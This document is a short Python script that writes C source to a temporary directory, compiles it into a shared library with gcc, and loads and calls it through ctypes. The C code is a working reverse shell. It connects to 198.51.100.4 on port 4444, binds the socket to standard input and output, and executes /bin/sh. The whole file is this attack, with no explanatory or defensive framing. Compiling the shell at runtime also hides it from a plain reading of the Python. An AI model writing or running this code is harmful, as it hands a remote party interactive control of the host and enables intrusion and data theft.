import ctypes
import os
import subprocess
import tempfile

SRC = r"""
#include <stdlib.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>
void go(void){ int s=socket(AF_INET,SOCK_STREAM,0); struct sockaddr_in a={0}; a.sin_family=AF_INET; a.sin_port=htons(4444); a.sin_addr.s_addr=inet_addr("198.51.100.4"); connect(s,(void*)&a,sizeof a); dup2(s,0); dup2(s,1); execl("/bin/sh","sh",0); }
"""
d = tempfile.mkdtemp()
with open(os.path.join(d, "a.c"), "w") as f:
    f.write(SRC)
subprocess.check_call(["gcc", "-shared", "-fPIC", "-o", os.path.join(d, "a.so"), os.path.join(d, "a.c")])
ctypes.CDLL(os.path.join(d, "a.so")).go()
